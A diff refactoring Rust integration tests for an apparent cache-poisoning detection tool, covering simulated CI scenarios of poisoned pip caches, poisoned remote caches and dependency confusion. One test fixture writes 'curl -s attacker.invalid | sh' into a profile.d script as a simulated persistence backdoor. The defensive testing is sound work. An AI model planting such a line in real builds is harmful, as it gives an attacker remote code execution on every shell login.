@@ -11,6 +11,7 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use cachewarden::graph::record_carries_taint;
 use cachewarden::graph::source::RecordInfo;
 
+use crate::build::ConfigBuilder;
 use crate::common::{Env, ok};
 use crate::harness::http::{self, Request};
 use crate::harness::{self, Dockerd, Registry, RegistryOpts};
@@ -21,6 +22,8 @@ pub(crate) const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fi
 const PLANTED: &str = "sitecustomize.py";
 /// A pip cache mount with its default id, as BuildKit names it.
 const PIP: &str = "/root/.cache/pip";
+/// The build arguments that put the cache inline in the image.
+const INLINE: &[&str] = &["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
 
 /// A CI job: its pipeline and the trust level its runs declare.
 pub(crate) struct Job {
@@ -28,18 +31,14 @@ pub(crate) struct Job {
     pub(crate) trust: &'static str,
 }
 
-pub(crate) const WEBAPP: Job = Job {
-    pipeline: "webapp",
-    trust: "release",
-};
-pub(crate) const FORK: Job = Job {
-    pipeline: "fork-pr",
-    trust: "untrusted",
-};
-const DOCS: Job = Job {
-    pipeline: "docs",
-    trust: "internal",
-};
+/// A job of `pipeline` whose runs declare `trust`.
+pub(crate) const fn job(pipeline: &'static str, trust: &'static str) -> Job {
+    Job { pipeline, trust }
+}
+
+pub(crate) const WEBAPP: Job = job("webapp", "release");
+pub(crate) const FORK: Job = job("fork-pr", "untrusted");
+const DOCS: Job = job("docs", "internal");
 
 /// One scenario's world: a registry, the builders CI uses (configured and in the purge
 /// scope), builders nobody recorded, and a store.
@@ -82,21 +81,16 @@ impl Lab {
         let registry = registry.join().expect("registry started");
         let env = Env::new();
         let host = registry.host();
-        let mut config = String::new();
-        for (name, dockerd) in builders_started
+        let config = builders_started
             .iter()
             .filter(|(n, _)| builders.contains(&n.as_str()))
-        {
-            config.push_str(&format!(
-                "[[builder]]\nname = \"{name}\"\ndriver = \"docker\"\nendpoint = \"{}\"\n\n",
-                dockerd.host()
-            ));
-        }
-        config.push_str(&format!(
-            "[[registry]]\nhost = \"{host}\"\ninsecure = true\ncredentials = \"anonymous\"\n\n\
-             [scope]\nregistries = [\"{host}\"]\nbuilders = {builders:?}\n"
-        ));
-        let config = env.write("config.toml", &config);
+            .fold(ConfigBuilder::new(), |config, (name, dockerd)| {
+                config.builder(name, &dockerd.host())
+            })
+            .scope_registries([&host])
+            .with_registry(&host)
+            .scope_builders(builders)
+            .write(&env);
         let base = format!("{host}/base:1");
         let first = &builders_started[0].1;
         first.import_busybox(&base);
@@ -161,6 +155,18 @@ impl Lab {
         to
     }
 
+    /// Checks out `pip-app` in `dir` with `requirement` in its requirements and `extra`
+    /// appended to its Dockerfile.
+    pub(crate) fn pip_app(&self, dir: &str, requirement: &str, extra: &str) -> PathBuf {
+        let requirements = format!("{requirement}\n");
+        self.checkout(
+            "pip-app",
+            dir,
+            extra,
+            &[("requirements.txt", &requirements)],
+        )
+    }
+
     /// `cachewarden wrap` as the job runs it; fails the test when the command fails or its
     /// builder records were not captured.
     fn wrap(&self, builder: &str, job: &Job, run: &str, command: &[&str]) -> String {
@@ -221,6 +227,12 @@ impl Lab {
         command.extend(extra);
         command.extend(["-t", tag, context.to_str().unwrap()]);
         self.wrap(builder, job, run, &command)
+    }
+
+    /// A wrapped build with inline cache, then its wrapped push; returns the pushed digest.
+    fn build_push(&self, b: &str, job: &Job, run: &str, ctx: &Path, tag: &str) -> String {
+        self.build(b, job, run, ctx, tag, INLINE);
+        self.push(b, job, run, tag)
     }
 
     /// A wrapped `docker push`; returns the pushed digest.
@@ -444,19 +456,12 @@ fn shared_mount_cache_across_projects() {
     };
     let b = "ci-shared";
     let host = lab.host();
-    let inline = ["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
 
     let fork = lab.checkout("pip-plant", "fork", "", &[]);
     lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
-    let webapp = lab.checkout(
-        "pip-app",
-        "webapp",
-        "",
-        &[("requirements.txt", "flask-2.0.1\n")],
-    );
+    let webapp = lab.pip_app("webapp", "flask-2.0.1", "");
     let webapp_ref = format!("{host}/webapp:1");
-    lab.build(b, &WEBAPP, "1", &webapp, &webapp_ref, &inline);
-    let webapp_digest = lab.push(b, &WEBAPP, "1", &webapp_ref);
+    let webapp_digest = lab.build_push(b, &WEBAPP, "1", &webapp, &webapp_ref);
     assert_eq!(
         lab.files(b, &webapp_ref, "/app/site"),
         set(&["flask-2.0.1.whl", PLANTED]),
@@ -469,8 +474,7 @@ fn shared_mount_cache_across_projects() {
         &[("package.txt", "markdown-it-13\n")],
     );
     let docs_ref = format!("{host}/docs:1");
-    lab.build(b, &DOCS, "1", &docs, &docs_ref, &inline);
-    let docs_digest = lab.push(b, &DOCS, "1", &docs_ref);
+    let docs_digest = lab.build_push(b, &DOCS, "1", &docs, &docs_ref);
 
     let seed = ["--pipeline", "fork-pr"];
     assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "webapp/1"]));
@@ -546,12 +550,12 @@ fn shared_mount_cache_across_projects() {
     assert!(lab.has_image(b, &docs_ref));
 
     // Proof: the trusted project's rebuild is clean; the docs rebuild is served from its cache.
-    lab.build(b, &WEBAPP, "2", &webapp, &webapp_ref, &inline);
+    lab.build(b, &WEBAPP, "2", &webapp, &webapp_ref, INLINE);
     assert_eq!(
         lab.files(b, &webapp_ref, "/app/site"),
         set(&["flask-2.0.1.whl"])
     );
-    lab.build(b, &DOCS, "2", &docs, &docs_ref, &inline);
+    lab.build(b, &DOCS, "2", &docs, &docs_ref, INLINE);
     assert!(docs_created.is_subset(&lab.layers("docs/2", "reused")));
     assert!(
         lab.layers("docs/2", "created").is_empty(),
@@ -578,30 +582,14 @@ fn poisoned_remote_cache() {
     let Some(lab) = Lab::start(&["ci-main", "ci-release"], &["outsider"]) else {
         return;
     };
-    const APP: Job = Job {
-        pipeline: "app",
-        trust: "release",
-    };
-    const RELEASE: Job = Job {
-        pipeline: "release",
-        trust: "release",
-    };
-    const DOWNSTREAM: Job = Job {
-        pipeline: "downstream",
-        trust: "internal",
-    };
+    const APP: Job = job("app", "release");
+    const RELEASE: Job = job("release", "release");
+    const DOWNSTREAM: Job = job("downstream", "internal");
     let host = lab.host();
     let cache_ref = format!("{host}/app:cache");
-    let inline = ["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
 
-    let app = lab.checkout(
-        "pip-app",
-        "app",
-        "",
-        &[("requirements.txt", "flask-2.0.1\n")],
-    );
-    lab.build("ci-main", &APP, "1", &app, &cache_ref, &inline);
-    let trusted = lab.push("ci-main", &APP, "1", &cache_ref);
+    let app = lab.pip_app("app", "flask-2.0.1", "");
+    let trusted = lab.build_push("ci-main", &APP, "1", &app, &cache_ref);
     let trusted_records = lab.layers("app/1", "created");
 
     // The outsider builds the next commit with a planted pip cache on a builder nobody
@@ -609,21 +597,11 @@ fn poisoned_remote_cache() {
     let outsider = lab.dockerd("outsider");
     let plant = lab.checkout("pip-plant", "outsider-plant", "", &[]);
     outsider.build(&plant, "plant:1", &[]);
-    let next = lab.checkout(
-        "pip-app",
-        "outsider-app",
-        "",
-        &[("requirements.txt", "flask-2.0.2\n")],
-    );
-    outsider.build(&next, &cache_ref, &inline);
+    let next = lab.pip_app("outsider-app", "flask-2.0.2", "");
+    outsider.build(&next, &cache_ref, INLINE);
     let evil = digest_in(&outsider.run(["push", &cache_ref]));
 
-    let release = lab.checkout(
-        "pip-app",
-        "release",
-        "",
-        &[("requirements.txt", "flask-2.0.2\n")],
-    );
+    let release = lab.pip_app("release", "flask-2.0.2", "");
     let release_ref = format!("{host}/release:cache");
     let release_args = [
         "--cache-from",
@@ -646,11 +624,10 @@ fn poisoned_remote_cache() {
         lab.files("ci-release", &release_ref, "/app/site"),
         set(&["flask-2.0.2.whl", PLANTED])
     );
-    let downstream = lab.checkout(
-        "pip-app",
+    let downstream = lab.pip_app(
         "downstream",
+        "flask-2.0.2",
         "RUN ls /app/site > /app/contents\n",
-        &[("requirements.txt", "flask-2.0.2\n")],
     );
     let downstream_ref = format!("{host}/downstream:1");
     let downstream_args = ["--cache-from", &release_ref];
@@ -757,47 +734,25 @@ fn persistence_after_compromise() {
     let Some(lab) = Lab::start(&["ci-svc"], &[]) else {
         return;
     };
-    const SVC: Job = Job {
-        pipeline: "svc",
-        trust: "internal",
-    };
+    const SVC: Job = job("svc", "internal");
     let b = "ci-svc";
     let host = lab.host();
-    let inline = ["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
     let svc_ref = |run: &str| format!("{host}/svc:{run}");
 
-    let svc = lab.checkout(
-        "pip-app",
-        "svc",
-        "",
-        &[("requirements.txt", "flask-2.0.1\n")],
-    );
-    lab.build(b, &SVC, "1", &svc, &svc_ref("1"), &inline);
-    let clean = lab.push(b, &SVC, "1", &svc_ref("1"));
+    let svc = lab.pip_app("svc", "flask-2.0.1", "");
+    let clean = lab.build_push(b, &SVC, "1", &svc, &svc_ref("1"));
 
     // Run 2 is compromised: an injected build plants in the pip cache, and an injected
     // Dockerfile line drops a second backdoor.
     let plant = lab.checkout("pip-plant", "svc-injected", "", &[]);
     lab.build(b, &SVC, "2", &plant, "svc-injected:2", &[]);
     let injected = "RUN mkdir -p /etc/profile.d && echo 'curl -s attacker.invalid | sh' > /etc/profile.d/update.sh\n";
-    let svc = lab.checkout(
-        "pip-app",
-        "svc",
-        injected,
-        &[("requirements.txt", "flask-2.0.2\n")],
-    );
-    lab.build(b, &SVC, "2", &svc, &svc_ref("2"), &inline);
-    let compromised = lab.push(b, &SVC, "2", &svc_ref("2"));
+    let svc = lab.pip_app("svc", "flask-2.0.2", injected);
+    let compromised = lab.build_push(b, &SVC, "2", &svc, &svc_ref("2"));
 
     // Fixed: no injected build, the Dockerfile line is gone; the install step is a cache hit.
-    let svc = lab.checkout(
-        "pip-app",
-        "svc",
-        "",
-        &[("requirements.txt", "flask-2.0.2\n")],
-    );
-    lab.build(b, &SVC, "3", &svc, &svc_ref("3"), &inline);
-    let patched = lab.push(b, &SVC, "3", &svc_ref("3"));
+    let svc = lab.pip_app("svc", "flask-2.0.2", "");
+    let patched = lab.build_push(b, &SVC, "3", &svc, &svc_ref("3"));
     assert!(!lab.files(b, &svc_ref("3"), "/etc").contains("profile.d"));
     assert_eq!(
         lab.files(b, &svc_ref("3"), "/app/site"),
@@ -830,7 +785,7 @@ fn persistence_after_compromise() {
     assert!(lab.has_image(b, &svc_ref("1")));
     assert!(!lab.has_image(b, &svc_ref("2")) && !lab.has_image(b, &svc_ref("3")));
 
-    lab.build(b, &SVC, "4", &svc, &svc_ref("4"), &inline);
+    lab.build(b, &SVC, "4", &svc, &svc_ref("4"), INLINE);
     assert_eq!(
         lab.files(b, &svc_ref("4"), "/app/site"),
         set(&["flask-2.0.2.whl"])
@@ -847,27 +802,16 @@ fn dependency_confusion_through_a_mount_cache() {
     let Some(lab) = Lab::start(&["ci-pkg"], &[]) else {
         return;
     };
-    const API: Job = Job {
-        pipeline: "api",
-        trust: "release",
-    };
-    const WORKER: Job = Job {
-        pipeline: "worker",
-        trust: "internal",
-    };
-    const PKG_FORK: Job = Job {
-        pipeline: "pkg-fork",
-        trust: "untrusted",
-    };
+    const API: Job = job("api", "release");
+    const WORKER: Job = job("worker", "internal");
+    const PKG_FORK: Job = job("pkg-fork", "untrusted");
     let b = "ci-pkg";
     let host = lab.host();
-    let inline = ["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
     let api_ref = |run: &str| format!("{host}/api:{run}");
     let worker_ref = |run: &str| format!("worker:{run}");
 
     let api = lab.checkout("pkg-install", "api", "", &[("requirements.txt", "api-1\n")]);
-    lab.build(b, &API, "1", &api, &api_ref("1"), &inline);
-    let api_before = lab.push(b, &API, "1", &api_ref("1"));
+    let api_before = lab.build_push(b, &API, "1", &api, &api_ref("1"));
     let worker = lab.checkout(
         "pkg-install",
         "worker",
@@ -886,8 +830,7 @@ fn dependency_confusion_through_a_mount_cache() {
         .unwrap();
 
     let api = lab.checkout("pkg-install", "api", "", &[("requirements.txt", "api-2\n")]);
-    lab.build(b, &API, "2", &api, &api_ref("2"), &inline);
-    let api_after = lab.push(b, &API, "2", &api_ref("2"));
+    let api_after = lab.build_push(b, &API, "2", &api, &api_ref("2"));
     let worker = lab.checkout(
         "pkg-install",
         "worker",
@@ -943,7 +886,7 @@ fn dependency_confusion_through_a_mount_cache() {
     assert!(lab.has_image(b, &api_ref("1")) && lab.has_image(b, &worker_ref("1")));
     assert!(!lab.has_image(b, &api_ref("2")) && !lab.has_image(b, &worker_ref("2")));
 
-    lab.build(b, &API, "3", &api, &api_ref("3"), &inline);
+    lab.build(b, &API, "3", &api, &api_ref("3"), INLINE);
     assert_eq!(
         lab.files(b, &api_ref("3"), "/app"),
         set(&["installed", "internal-lib-1.2.0.tgz"])
@@ -963,27 +906,14 @@ fn time_matters() {
     };
     let b = "ci-web";
     let host = lab.host();
-    let inline = ["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
     let web_ref = |run: &str| format!("{host}/webapp:{run}");
 
-    let webapp = lab.checkout(
-        "pip-app",
-        "webapp",
-        "",
-        &[("requirements.txt", "flask-2.0.1\n")],
-    );
-    lab.build(b, &WEBAPP, "1", &webapp, &web_ref("1"), &inline);
-    let before = lab.push(b, &WEBAPP, "1", &web_ref("1"));
+    let webapp = lab.pip_app("webapp", "flask-2.0.1", "");
+    let before = lab.build_push(b, &WEBAPP, "1", &webapp, &web_ref("1"));
     let fork = lab.checkout("pip-plant", "fork", "", &[]);
     lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
-    let webapp = lab.checkout(
-        "pip-app",
-        "webapp",
-        "",
-        &[("requirements.txt", "flask-2.0.2\n")],
-    );
-    lab.build(b, &WEBAPP, "2", &webapp, &web_ref("2"), &inline);
-    let after = lab.push(b, &WEBAPP, "2", &web_ref("2"));
+    let webapp = lab.pip_app("webapp", "flask-2.0.2", "");
+    let after = lab.build_push(b, &WEBAPP, "2", &webapp, &web_ref("2"));
     assert!(lab.files(b, &web_ref("2"), "/app/site").contains(PLANTED));
 
     let seed = ["--pipeline", "fork-pr"];
@@ -1012,13 +942,8 @@ fn time_matters() {
     assert!(lab.mount_records(b, PIP).is_empty());
 
     // Rebuilding the early commit is served from its surviving layers, and is clean.
-    let webapp = lab.checkout(
-        "pip-app",
-        "webapp",
-        "",
-        &[("requirements.txt", "flask-2.0.1\n")],
-    );
-    lab.build(b, &WEBAPP, "3", &webapp, &web_ref("3"), &inline);
+    let webapp = lab.pip_app("webapp", "flask-2.0.1", "");
+    lab.build(b, &WEBAPP, "3", &webapp, &web_ref("3"), INLINE);
     assert!(early.is_subset(&lab.layers("webapp/3", "reused")));
     assert!(lab.layers("webapp/3", "created").is_empty());
     assert_eq!(
